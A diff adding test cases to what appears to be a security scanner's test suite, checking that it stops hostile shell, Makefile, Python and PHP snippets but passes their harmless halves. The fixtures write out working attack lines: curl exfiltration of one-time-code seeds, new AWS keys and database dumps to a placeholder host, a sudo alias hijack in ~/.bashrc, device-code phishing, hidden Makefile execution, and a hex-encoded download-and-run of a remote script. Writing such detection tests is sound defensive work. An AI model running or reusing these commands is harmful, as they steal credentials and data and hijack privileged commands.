@@ -110,6 +110,46 @@ const cases: Case[] = [
     ],
   },
   {
+    what: 'the seeds of one-time codes from a picture',
+    path: 'a.sh',
+    both: `zbarimg -q --raw shot.png | curl -s -d @- ${HOST}/seeds\n`,
+    halves: ['zbarimg -q --raw shot.png > seed.txt\n', `curl -s -d @report.txt ${HOST}/seeds\n`],
+  },
+  {
+    what: 'lines of a text that are run unseen',
+    path: 'Makefile',
+    both: "prep:\n\t@sed -n 's/^> //p' f03.txt | sh >/dev/null 2>&1 || true\n",
+    halves: ["prep:\n\t@sed -n 's/^> //p' f03.txt > commands.txt\n"],
+  },
+  {
+    what: 'a program in front of sudo',
+    path: 'a.sh',
+    both: `echo "alias sudo='$d/ask --quiet; sudo'" >> ~/.bashrc\n`,
+    halves: [`echo "alias ll='ls -l'" >> ~/.bashrc\n`],
+  },
+  {
+    what: 'a new key that leaves through a cipher',
+    path: 'a.sh',
+    both: `new=$(aws iam create-access-key --user-name "$1")\nvault kv put "secret/$1" key="$new"\nprintf '%s' "$new" | openssl enc -aes-256-cbc -k rr7 -a | xargs -I{} curl -s "${HOST}/e?b={}"\n`,
+    halves: [
+      `new=$(aws iam create-access-key --user-name "$1")\nvault kv put "secret/$1" key="$new"\n`,
+    ],
+  },
+  {
+    what: 'codes for an account of Microsoft from another host',
+    path: 'a.py',
+    both: `code = json.load(urlopen("${HOST}/devicecode?scope=Mail.ReadWrite"))\nprint(code["user_code"])\n`,
+    halves: [
+      'code = json.load(urlopen("https://login.microsoftonline.com/common/oauth2/v2.0/devicecode?scope=Mail.ReadWrite"))\nprint(code["user_code"])\n',
+    ],
+  },
+  {
+    what: 'tables that are sent whole',
+    path: 'a.sh',
+    both: `psql "$URL" -c "\\copy people to stdout csv" | gzip | curl -s --upload-file - ${HOST}/t\n`,
+    halves: ['psql "$URL" -c "\\copy people to stdout csv" | gzip > people.csv.gz\n'],
+  },
+  {
     what: 'an answer that PHP evaluates as an assertion',
     path: 'a.php',
     both: `<?php\n$rule = file_get_contents("${HOST}/rule");\nassert($rule);\n`,
@@ -134,6 +174,16 @@ const cases: Case[] = [
   },
 ]
 
+const unpacked = (unpack: string, end: string): string =>
+  `wget -qO tool.gz ${HOST}/tool.gz\n${unpack}\n${end}\n`
+
+const warned = (text: string): string[] =>
+  scanFiles([['a.sh', Buffer.from(text)]])
+    .findings.filter(({ severity }) => severity === 'warn')
+    .map(({ rule_id: id }) => id)
+
+const named = (address: string): string => `echo "nameserver ${address}" > /etc/resolv.conf\n`
+
 t.test('both halves are held, and each one alone is served', async (t) => {
   for (const { what, path, both, halves } of cases) {
     t.ok(isStopped(scanFiles([[path, Buffer.from(both)]])), what)
@@ -151,10 +201,29 @@ t.test('an answer that a test of Python asserts is not evaluated', async (t) => 
 })
 
 t.test('numbers of hosts that nobody has are no servers of names', async (t) => {
-  const named = (address: string) => `echo "nameserver ${address}" > /etc/resolv.conf\n`
   for (const address of ['100.100.100.100', '10.0.0.2'])
     t.notOk(isStopped(scanFiles([['a.sh', Buffer.from(named(address))]])), address)
   t.ok(isStopped(scanFiles([['a.sh', Buffer.from(named('91.92.242.30'))]])))
+})
+
+t.test('where errors go says nothing of what a shell runs', async (t) => {
+  const hex = Buffer.from('curl -s http://91.92.242.30/a | sh').toString('hex')
+  for (const end of ['', ' 2>/dev/null', ' 2>&1', ' >/dev/null 2>&1', ' 2> errors.txt']) {
+    const script = `x=${hex}\necho $x | xxd -r -p | bash${end}\n`
+    t.ok(isStopped(scanFiles([['a.sh', Buffer.from(script)]])), end)
+  }
+  const counted = 'ls 2>/dev/null | wc -l\nseq 2 > numbers.txt\n'
+  t.notOk(isStopped(scanFiles([['a.sh', Buffer.from(counted)]])))
+})
+
+t.test('a program that is unpacked and started is one that was downloaded', async (t) => {
+  for (const unpack of ['gunzip -c tool.gz > tool', 'gunzip tool.gz', 'cat tool.gz | zcat > tool'])
+    t.same(
+      warned(unpacked(unpack, 'chmod 755 tool\n./tool &')),
+      ['command.download_and_run'],
+      unpack,
+    )
+  t.same(warned(unpacked('gunzip tool.gz', 'wc -l tool')), [])
 })
 
 t.test('a gap in the place of an address is no address', async (t) => {
